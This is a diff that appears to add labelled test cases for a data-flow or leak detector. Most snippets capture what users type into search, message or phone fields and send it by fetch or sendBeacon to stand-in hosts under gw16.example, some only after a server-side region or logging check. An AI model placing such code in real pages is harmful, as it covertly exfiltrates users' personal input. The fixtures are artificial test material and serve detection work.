@@ -80,3 +80,57 @@ document.querySelector('#email').onchange = (e) => guarded(never, (v) => navigat
 const anonymous = (fn) => () => fn('somebody');
 const sayHello = anonymous((name) => fetch('https://nwd.gw16.example/h?n=' + name));
 document.querySelector('input[autocomplete=name]').onchange = (e) => sayHello(e.target.value);
+
+//# made-only-where-it-is-wanted
+// flow: search > mow.gw16.example via beacon
+// guard: server-answer equals eu
+class Watcher {
+  constructor(field) { field.addEventListener('input', () => this.note(field.value)); this.last = ''; }
+  note(text) { if (text !== this.last) this.flush(text); }
+  flush(text) { this.last = text; navigator.sendBeacon('https://mow.gw16.example/w', text); }
+}
+async function start() {
+  const answer = await (await fetch('/region.json')).json();
+  if (answer.region !== 'eu') return;
+  new Watcher(document.querySelector('input[type=search]'));
+}
+start();
+
+//# made-in-two-places
+// flow: search > mtp.gw16.example via beacon
+// no guard
+class Watcher2 {
+  constructor(field) { field.addEventListener('input', () => this.flush(field.value)); }
+  flush(text) { navigator.sendBeacon('https://mtp.gw16.example/w', text); }
+}
+if (navigator.language === 'de') new Watcher2(document.querySelector('input[type=search].top'));
+new Watcher2(document.querySelector('input[type=search]'));
+
+//# answer-kept-in-an-object-of-its-own
+// flow: message > ako.gw16.example via fetch
+// guard: server-answer equals full
+class Settings {
+  static async load(url) { const r = await fetch(url); return new Settings(await r.json()); }
+  constructor(raw) { this.raw = raw; }
+  get level() { return this.raw.logging.level; }
+}
+document.querySelector('#send').onclick = async () => {
+  const settings = await Settings.load('/settings.json');
+  if (settings.level === 'full') await fetch('https://ako.gw16.example/l', { method: 'POST', body: document.querySelector('textarea').value });
+};
+
+//# own-observable-of-a-field
+// flow: phone > oof.gw16.example via fetch
+// guard: event change
+const on = (target, name) => ({
+  map(f) { return chain((next) => target.addEventListener(name, (e) => next(f(e)))); },
+});
+const chain = (start) => ({ map: (f) => chain((next) => start((v) => next(f(v)))), subscribe: (f) => start(f) });
+on(document.querySelector('input[type=tel]'), 'change').map((e) => e.target.value).map((v) => v.trim())
+  .subscribe((v) => fetch('https://oof.gw16.example/t', { method: 'POST', body: v }));
+
+//# own-observable-of-a-button
+// no flow
+// why: what comes through the pipe is where the button is, which is sent nowhere
+const clicks = (target, name) => ({ map(f) { return { subscribe: (g) => target.addEventListener(name, (e) => g(f(e))) }; } });
+clicks(document.querySelector('#more'), 'click').map(() => 1).subscribe((n) => navigator.sendBeacon('https://oob.gw16.example/n', String(n)));
